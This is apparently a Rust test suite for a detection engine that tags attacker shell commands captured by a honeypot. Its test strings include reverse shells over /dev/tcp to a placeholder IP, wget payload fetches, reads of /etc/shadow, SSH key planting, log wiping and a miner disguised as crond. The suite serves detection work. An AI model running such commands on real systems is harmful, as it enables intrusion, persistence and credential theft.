//! The slow way beside the fast one: every rule, one after the other, without index and without memory.

use proptest::prelude::*;
use rsigma_eval::{CompiledRule, ResultBody, evaluate_rule};
use vespid_attack::Catalogue;
use vespid_engine::evaluate::{Evaluator, Match, mask};
use vespid_engine::rule::Target;
use vespid_engine::tagger::MAX_SPANS;
use vespid_engine::view::View;
use vespid_engine::{Engine, Pack, Rule, shipped_rules};
use vespid_model::event::Event;
use vespid_testkit::event::command;

/// Asks every rule of the target.
struct Exhaustive(Vec<(Target, CompiledRule)>);

impl Evaluator for Exhaustive {
    fn matches(&self, target: Target, view: &View<'_>) -> Vec<Match> {
        let rules = self.0.iter().enumerate().filter(|(_, (own, _))| *own == target);
        let found = rules.filter_map(|(rule, (_, compiled))| match evaluate_rule(compiled, view)?.body {
            ResultBody::Detection(body) => {
                Some(Match { rule, selections: mask(compiled, &body.matched_selections) })
            }
            ResultBody::Correlation(_) => None,
        });
        found.collect()
    }
}

fn engine() -> Engine {
    let attack = Catalogue::default_release();
    Engine::new(Pack::load(&shipped_rules(), attack), attack).0
}

fn reference() -> Engine<Exhaustive> {
    let pair = |(rule, compiled): (&Rule, &CompiledRule)| (rule.target, compiled.clone());
    engine().with_evaluator(|rules, compiled| Exhaustive(rules.iter().zip(compiled).map(pair).collect()))
}

/// Both give the same tags, and the fast one gives them again from its memory.
fn agree(fast: &Engine, slow: &Engine<Exhaustive>, event: &Event) {
    let expected = slow.tag(event);
    assert_eq!(fast.tag(event), expected, "{}", event.body_json);
    assert_eq!(fast.tag(event), expected, "the second time: {}", event.body_json);
}

#[test]
fn every_example_and_every_sample_line_agrees() {
    let (fast, slow) = (engine(), reference());
    for rule in slow.rules() {
        for example in rule.hits.iter().chain(&rule.misses) {
            let body = example.body(rule.target).unwrap();
            let event =
                Event::new(vespid_testkit::event::at(0), vespid_testkit::event::ip(1), "d", None, body);
            agree(&fast, &slow, &event);
        }
    }
    let log =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/samples/cowrie-b.json"))
            .unwrap();
    for line in log.lines() {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        if let (true, Some(input)) = (line["eventid"] == "cowrie.command.input", line["input"].as_str()) {
            agree(&fast, &slow, &command(0, 1, "s", input));
        }
    }
}

/// The bytes that a rule shows of a line.
fn shown(rule: &str, text: &str) -> Vec<String> {
    let tags = engine().tag(&command(0, 1, "s", text)).tags;
    let found = tags.into_iter().find(|tag| tag.rule.as_str() == rule).map(|tag| tag.spans);
    let spans = found.unwrap_or_default().into_iter();
    spans.map(|span| text[span.start as usize..span.end as usize].to_owned()).collect()
}

/// A pattern over a whole line asks what stands before a command; that is not what matched.
#[test]
fn what_separates_commands_is_not_shown() {
    for line in ["crontab -l", "id; crontab -l", "id;crontab -l|cat", "(crontab -l)", "id &&\tcrontab -l \n"]
    {
        assert_eq!(shown("cron_listed", line), ["crontab -l"], "{line}");
    }
}

#[test]
fn what_the_limits_cut_off_is_said() {
    let cut = |text: &str| engine().tag(&command(0, 1, "s", text)).cut;
    assert!(cut(&("true;".repeat(1100) + "wget http://192.0.2.1/x")));
    assert!(cut(&("$(".repeat(40) + "wget http://192.0.2.1/x")));
    assert!(cut(&("sudo ".repeat(40) + "wget http://192.0.2.1/x")));
    assert!(!cut("sudo sh -c 'wget http://192.0.2.1/x'"));
}

/// Nor what stands behind it, be it in the line or in the word that a match ends in.
#[test]
fn what_closes_something_around_a_match_is_not_shown() {
    let probe = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI";
    assert_eq!(shown("busybox_probe", probe), ["/bin/busybox wget", "/bin/busybox tftp"]);
    for line in ["kill -9 $(pgrep -f clamd)", "kill -9 `pgrep -f clamd`", "kill -9 $(pgrep -f clamd;)"] {
        assert_eq!(shown("security_tool_stopped", line), ["kill", "clamd"], "{line}");
    }
    assert_eq!(shown("history_cleared", "(history -c)"), ["history -c"]);
    assert_eq!(shown("command_obfuscated", "w\\get http://198.51.100.7/x"), ["w\\get"]);
    assert_eq!(shown("files_deleted", "rm a\\)"), ["rm a\\)"]);
}

#[test]
fn a_quote_that_a_match_opens_is_closed() {
    assert_eq!(shown("files_deleted", r#"rm -- "$0""#), [r#"rm -- "$0""#]);
    assert_eq!(shown("files_deleted", "rm 'x'; id"), ["rm 'x'"]);
    assert_eq!(shown("shadow_read", r#"sh -c "cat /etc/shadow""#), ["cat", "/etc/shadow"]);
}

#[test]
fn a_shell_tied_to_a_socket_is_shown_whole() {
    let bash = "id; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; id";
    assert_eq!(shown("reverse_shell", bash), ["/bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]);
    let exec = "exec 196<>/dev/tcp/198.51.100.7/9; sh <&196 >&196 2>&196; id";
    assert_eq!(shown("reverse_shell", exec), ["exec 196<>/dev/tcp/198.51.100.7/9; sh <&196 >&196 2>&196"]);
}

/// A pattern may hold in many places of one command.
#[test]
fn every_place_is_shown() {
    let logs = "rm -f /var/log/wtmp /tmp/x /var/log/btmp";
    assert_eq!(shown("logs_cleared", logs), ["rm", "/var/log/wtmp", "/var/log/btmp"]);
    let both = "cat /etc/shadow /etc/shadow-";
    assert_eq!(shown("shadow_read", both), ["cat", "/etc/shadow", "/etc/shadow-"]);
    let keys = "tee a/authorized_keys b/AUTHORIZED_KEYS; tee authorized_keys";
    let all = ["tee", "a/authorized_keys", "b/AUTHORIZED_KEYS", "tee", "authorized_keys"];
    assert_eq!(shown("authorized_key_added", keys), all);
    let many = format!("cat {}", "/etc/shadow /tmp/x ".repeat(500));
    assert_eq!(shown("shadow_read", &many).len(), MAX_SPANS);
}

/// Of several redirections only those that match are shown.
#[test]
fn redirections_that_do_not_match_are_not_shown() {
    let key = "echo k >> ~/.ssh/authorized_keys 2>/dev/null";
    assert_eq!(shown("authorized_key_added", key), ["~/.ssh/authorized_keys"]);
    let copied = "2>/dev/null cp miner /usr/sbin/crond >/dev/null";
    assert_eq!(shown("masquerade_name", copied), ["cp", "miner /usr/sbin/crond"]);
}

/// Commands of a line are matched once and shown wherever they stand, up to the limit.
#[test]
fn a_command_that_comes_again_is_shown_again() {
    let spans = |text: &str| shown("shadow_read", text);
    let once = spans("cat /etc/shadow");
    assert!(once.contains(&"/etc/shadow".to_owned()));
    assert_eq!(spans("cat /etc/shadow; id; cat /etc/shadow"), [once.clone(), once.clone()].concat());
    assert_eq!(spans(&"cat /etc/shadow;".repeat(500)).len(), MAX_SPANS);
    assert!(spans("cat /etc/passwd; cat '/etc/shad'").is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_line_made_of_attackers_words_agrees(words in prop::collection::vec(prop::sample::select(WORDS), 1..12)) {
        thread_local! { static ENGINES: (Engine, Engine<Exhaustive>) = (engine(), reference()); }
        ENGINES.with(|(fast, slow)| agree(fast, slow, &command(0, 1, "s", &words.join(" "))));
    }
}

const WORDS: &[&str] = &[
    "wget",
    "curl",
    "http://198.51.100.7/x",
    "|",
    ";",
    "&&",
    "sh",
    "-c",
    "sudo",
    "chmod",
    "777",
    "+x",
    "/tmp/x",
    "./x",
    "cat",
    "/etc/passwd",
    "/etc/shadow",
    ">",
    ">>",
    "~/.ssh/authorized_keys",
    "rm",
    "-rf",
    "/",
    "busybox",
    "MIRAI",
    "echo",
    "crontab",
    "-",
    "-l",
    "history",
    "-c",
    "uname",
    "-a",
    "'",
    "\"",
    "$(",
    ")",
    "kill",
    "-9",
    "xmrig",
    "useradd",
    "nc",
];
